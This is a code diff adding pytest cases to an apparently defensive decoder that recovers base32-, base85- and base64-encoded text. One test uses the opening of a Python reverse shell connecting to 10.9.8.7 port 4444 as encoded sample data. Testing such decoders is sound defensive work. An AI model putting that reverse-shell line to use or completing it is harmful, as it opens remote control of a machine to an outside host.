@@ -43,6 +43,27 @@ def test_each_encoding_alone_is_undone(name, plain):
     assert plain in results(f"decode this: {wrapped}")
 
 
+@pytest.mark.parametrize(
+    "wrapped",
+    [
+        base64.b32encode(chains.PLAIN[1].encode()).decode(),
+        base64.b85encode(chains.PLAIN[1].encode()).decode(),
+        base64.encodebytes(chains.PLAIN[1].encode()).decode(),
+    ],
+    ids=["base32", "base85", "base64 lines"],
+)
+@pytest.mark.parametrize("name", ["payload = ", "the payload: ", "$data='"])
+def test_a_name_before_what_is_encoded_is_no_part_of_it(name, wrapped):
+    assert chains.PLAIN[1] in results(name + wrapped.strip() + ("';" if name.endswith("'") else ""))
+
+
+def test_backticks_within_a_run_quote_nothing():
+    plain = "import socket,subprocess;s=socket.socket();s.connect(('10.9.8.7',4444))"
+    wrapped = base64.b85encode(plain.encode()).decode()
+    assert wrapped.count("`") == 2
+    assert results(wrapped) == [plain]
+
+
 def solved(seeds: range) -> tuple[int, list[str]]:
     failed = []
     for seed in seeds:
